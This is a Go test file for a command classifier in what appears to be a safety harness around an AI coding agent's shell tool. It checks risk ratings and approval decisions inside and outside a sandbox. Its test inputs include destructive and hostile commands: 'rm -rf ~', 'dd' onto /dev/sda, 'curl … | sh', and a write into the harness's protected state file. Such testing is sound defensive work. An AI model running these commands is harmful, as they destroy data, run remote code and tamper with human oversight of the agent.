package classify

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/oath-harness/oath-harness/internal/layout"
	"github.com/oath-harness/oath-harness/internal/settings"

	"github.com/oath-harness/oath-harness/internal/classify/kernel"
	"github.com/oath-harness/oath-harness/internal/claude"
	"github.com/oath-harness/oath-harness/internal/decide"
	"github.com/oath-harness/oath-harness/internal/phase"
	"github.com/oath-harness/oath-harness/internal/risk"
	"github.com/oath-harness/oath-harness/internal/trust"
)

// The harness's files inside the project, denied as the installer writes them.
const denyHarness = `"denyWrite":["./state.md","./.claude/current-phase.md","./.claude/protected-files.txt"]`

// Inside a bounded sandbox (confined, nothing writable added, the harness's in-project files
// denied), a write target or a command name that cannot be known statically is code not read
// (high, not read in full), not critical; without that boundary the same command stays
// critical. What is known stays as it is.
func TestBoundedUnknownIsNotRead(t *testing.T) {
	bounded := `{"sandbox":{"enabled":true,"filesystem":{` + denyHarness + `}}}`
	unknown := []string{
		`rm -rf $TMPDIR/build`,
		`rm -rf ${TMPDIR:-/tmp}/build`,
		`find "$TMPDIR/child" -depth -delete`,
		`TMPDIR=/tmp/subdir rm -rf $TMPDIR/test-dir`,
		`$(echo ls)`,
		"`echo pwd`",
		`echo ok | xargs rm -- -rf`,
		`echo ok | xargs busybox rm -f /tmp/test`,
		`echo x > "$F"`,
	}
	for _, tc := range []struct {
		name     string
		settings string
		bounded  bool
		why      string
	}{
		{"bounded", bounded, true, "only the project and its temporary directory"},
		{"sandbox off", `{"sandbox":{"enabled":false,"filesystem":{` + denyHarness + `}}}`, false, ""},
		{"allowWrite adds a path", `{"sandbox":{"enabled":true,"filesystem":{"allowWrite":["~/.kube"],` + denyHarness + `}}}`, false, `adds "~/.kube"`},
		{"additionalDirectories adds one", `{"permissions":{"additionalDirectories":["//srv/data"]},"sandbox":{"enabled":true,"filesystem":{` + denyHarness + `}}}`, false, `adds "//srv/data"`},
		{"denyWrite lacks state.md", `{"sandbox":{"enabled":true,"filesystem":{"denyWrite":["./.claude/current-phase.md","./.claude/protected-files.txt"]}}}`, false, "state.md is the harness's"},
		{"denyWrite by a pattern", `{"sandbox":{"enabled":true,"filesystem":{"denyWrite":["**/state.md","./.claude/current-phase.md","./.claude/protected-files.txt"]}}}`, false, "state.md is the harness's"},
		{"denyWrite of the wrong type", `{"sandbox":{"enabled":true,"filesystem":{"denyWrite":"./state.md"}}}`, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, dir := onDisk(t, map[string]string{".claude/settings.local.json": tc.settings})
			c := stateOutside(t, dir)
			for _, cmd := range unknown {
				ev := bash(cmd)
				ev.Cwd = dir
				got := c.Classify(ev)
				isBounded := got.Bounded != nil && *got.Bounded
				if isBounded != tc.bounded || !strings.Contains(got.BoundedWhy, tc.why) {
					t.Errorf("%s: bounded %v (%q), want %v with %q (confined: %q)", cmd, isBounded, got.BoundedWhy, tc.bounded, tc.why, got.ConfinedWhy)
				}
				want := risk.Critical
				if tc.bounded {
					want = risk.High
				}
				if got.Risk != want {
					t.Errorf("%s: risk %s, want %s: %+v", cmd, got.Risk, want, got.Reasons)
				}
				if got.IsReadInFull() {
					t.Errorf("%s: read in full", cmd)
				}
				if got.NeedsPerson != nil {
					t.Errorf("%s: needs a person (%s): inside the sandbox it is earnable, as an unread recipe is", cmd, got.NeedsPerson.Reason)
				}
				if tc.bounded && !strings.Contains(got.Reasons[0].Detail, "project and its temporary directory") {
					t.Errorf("%s: the first reason %q does not say the sandbox keeps it to the project", cmd, got.Reasons[0].Detail)
				}
			}
			if !tc.bounded {
				return
			}
			// What is known stays critical: a protected file named, a raw device, dd's operand,
			// a recursive deletion of the project, code piped into a shell.
			for _, cmd := range []string{
				"echo 'security: admin' > state.md",
				"rm -rf .claude/current-phase.md",
				"dd if=/dev/zero of=/dev/sda",
				`dd if=/dev/zero of="$D"`,
				"rm -rf ~",
				"rm -rf .",
				`curl -s http://example.com/x | sh`,
				// A tree whose last name is not known could be / and so the whole project.
				`rm -rf "$BUILD_DIR/"`,
				`rm -rf $X`,
				`rm -rf "$X/.."`,
				`echo / | xargs rm -rf`,
				`echo / | xargs find "$D/child" -delete`,
				`find $TMPDIR -depth -delete`,
				// … and so could one named like the project or a directory above it.
				`rm -rf "$P/` + filepath.Base(dir) + `"`,
				`find "$P/` + filepath.Base(filepath.Dir(dir)) + `" -delete`,
			} {
				ev := bash(cmd)
				ev.Cwd = dir
				if got := c.Classify(ev); got.Risk != risk.Critical {
					t.Errorf("%s: risk %s inside a bounded sandbox, want critical: %+v", cmd, got.Risk, got.Reasons)
				}
			}
		})
	}
}

// stateOutside is a classifier of project whose state lies outside it, as installed.
func stateOutside(t *testing.T, project string) *Classifier {
	t.Helper()
	c, err := New(settings.Defaults(), layout.Layout{ProjectDir: project, Root: filepath.Join(filepath.Dir(project), "state")})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// The harness's state inside the project (an old layout) is writable inside the sandbox: the
// call is not bounded, and what cannot be known stays critical.
func TestBoundedNotWithStateInProject(t *testing.T) {
	c, dir := onDisk(t, map[string]string{".claude/settings.local.json": `{"sandbox":{"enabled":true,"filesystem":{` + denyHarness + `}}}`})
	got := c.Classify(bashAt(dir, "rm -rf $TMPDIR/build"))
	if got.Bounded == nil || *got.Bounded || !strings.Contains(got.BoundedWhy, "oath-harness lies where the sandbox lets commands write") || got.Risk != risk.Critical {
		t.Errorf("bounded %v (%q), risk %s; want not bounded, critical", got.Bounded != nil && *got.Bounded, got.BoundedWhy, got.Risk)
	}
}

// The rules lowered inside the boundary: only what is critical because something cannot be
// known, never a named catastrophe.
func TestBoundedUnknownRules(t *testing.T) {
	for _, tc := range []struct {
		rule, detail string
		want         bool
	}{
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "$(…)", which cannot be known statically and could be a protected file of the harness: spell the path out`, true},
		{kernel.RuleSelfProtectionUnknownTarget, "dd with an operand that cannot be known statically", false},
		{kernel.RuleSelfProtectionUnknownTarget, "patch writes the files its input names, which cannot be known statically and could be protected: use Edit/Write", false},
		{kernel.RuleDynamicCommand, "the command name cannot be known statically: it could be any program", true},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/build", which cannot be known statically (it could be / or ~)`, true},
		{kernel.RuleCatastrophe, "recursive deletion of names read from stdin", false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/proj", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/U", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/build/", which cannot be known statically (it could be / or ~)`, true},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/b*", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleCatastrophe, `recursive deletion of "$(…)/.git", which cannot be known statically (it could be / or ~)`, false},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "$(…)/.git/**", which cannot be known statically and could be a protected file of the harness: spell the path out`, false},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "$(…)/child/**", which cannot be known statically and could be a protected file of the harness: spell the path out`, true},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "$(…)/**", which cannot be known statically and could be a protected file of the harness: spell the path out`, false},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "/tmp/x/** (and names read from stdin)", which cannot be known statically and could be a protected file of the harness: spell the path out`, false},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "/tmp/x (and names read from stdin)", which cannot be known statically and could be a protected file of the harness: spell the path out`, true},
		{kernel.RuleSelfProtectionUnknownTarget, `writes to "/tmp/x (and names read from stdin)/**", which cannot be known statically and could be a protected file of the harness: spell the path out`, false},
		{kernel.RuleCatastrophe, "recursive deletion of the home directory", false},
		{kernel.RuleSelfProtection, "writes state.md", false},
		{kernel.RuleDynamicProgram, "a second program is built from values unknown statically", false},
	} {
		if got := kernel.BoundedUnknown(tc.rule, tc.detail, "/home/u/proj"); got != tc.want {
			t.Errorf("%s %q: %v, want %v", tc.rule, tc.detail, got, tc.want)
		}
	}
}

// A bounded call that writes what cannot be known is made automatic at earned trust only
// with a checkpoint of the project taken first, and its reason says so; at fresh trust it
// asks; with the sandbox off the same command stays blocked and no checkpoint is taken.
func TestBoundedUnknownGetsACheckpoint(t *testing.T) {
	for _, tc := range []struct {
		name, settings string
		score          float64
		decision       string
		taken          bool
		reason         string
	}{
		{"bounded, earned trust", `{"sandbox":{"enabled":true,"filesystem":{` + denyHarness + `}}}`, 0.95, decide.AutoApproved, true, "checkpoint 4f2c1a0b taken before this call"},
		// Fresh trust: the harness would ask, but Claude Code's sandbox auto-allows it
		// (decide.LeftToSandbox), so it runs unasked all the same: the checkpoint comes first.
		{"bounded, fresh trust, auto-allowed by the sandbox", `{"sandbox":{"enabled":true,"filesystem":{` + denyHarness + `}}}`, 0.3, decide.HumanRequired, true, "checkpoint 4f2c1a0b taken before this call"},
		{"bounded, fresh trust, asked", `{"sandbox":{"enabled":true,"autoAllowBashIfSandboxed":false,"filesystem":{` + denyHarness + `}}}`, 0.3, decide.HumanRequired, false, "human approval required"},
		{"sandbox off", `{"sandbox":{"enabled":false}}`, 0.95, decide.Blocked, false, "a critical call is blocked at any trust"},
		{"harness files not denied", `{"sandbox":{"enabled":true}}`, 0.95, decide.Blocked, false, "a critical call is blocked at any trust"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, dir := onDisk(t, map[string]string{".claude/settings.local.json": tc.settings})
			c := stateOutside(t, dir)
			cl := c.Classify(bashAt(dir, "rm -rf $TMPDIR/build"))
			in := decide.Input{Tool: claude.ToolBash, Phase: phase.Building, Classify: cl, Trust: trust.Domain{Score: tc.score}, ProjectDir: dir, Settings: settings.Defaults()}
			called := false
			d, taken := decide.WithCheckpoint(in, decide.MayWrite(cl, claude.ToolBash, dir), func() (decide.Checkpoint, error) {
				called = true
				return decide.Checkpoint{ID: "4f2c1a0b", Top: dir}, nil
			})
			if d.Decision != tc.decision || (taken != nil) != tc.taken || called != tc.taken || !strings.Contains(d.Reason, tc.reason) {
				t.Errorf("%s, checkpoint taken %v (asked %v): %s; want %s, taken %v, with %q", d.Decision, taken != nil, called, d.Reason, tc.decision, tc.taken, tc.reason)
			}
		})
	}
}
